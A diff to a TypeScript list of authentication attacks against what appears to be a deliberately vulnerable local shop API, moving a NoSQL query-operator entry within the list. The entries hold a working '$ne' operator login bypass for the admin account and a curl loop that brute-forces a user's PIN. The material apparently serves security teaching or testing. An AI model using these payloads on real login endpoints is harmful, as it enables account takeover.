@@ -74,6 +74,15 @@ export const AUTHENTICATION: readonly Attack[] = [
     twin: LIST_ORDERS,
   },
   {
+    id: "query-operator",
+    title: "a query operator in place of the PIN",
+    owasp: "API2:2023",
+    flaw: "`POST /sessions` hands the PIN to a document query, where `$ne` is an operator.",
+    requests: () => [login("admin@shop.example", { $ne: "" })],
+    exploited: lastSays(201, '"token"'),
+    twin: LOG_IN,
+  },
+  {
     id: "guess-pin",
     title: "38 guesses at bob's PIN",
     owasp: "API2:2023",
@@ -84,14 +93,5 @@ export const AUTHENTICATION: readonly Attack[] = [
     shell: `for pin in $(seq -w 0000 0037); do
   curl -X POST http://127.0.0.1:3000/sessions -H 'Content-Type: application/json' -d '{"email":"bob@shop.example","pin":"'$pin'"}'
 done`,
-  },
-  {
-    id: "query-operator",
-    title: "a query operator in place of the PIN",
-    owasp: "API2:2023",
-    flaw: "`POST /sessions` hands the PIN to a document query, where `$ne` is an operator.",
-    requests: () => [login("admin@shop.example", { $ne: "" })],
-    exploited: lastSays(201, '"token"'),
-    twin: LOG_IN,
   },
 ];
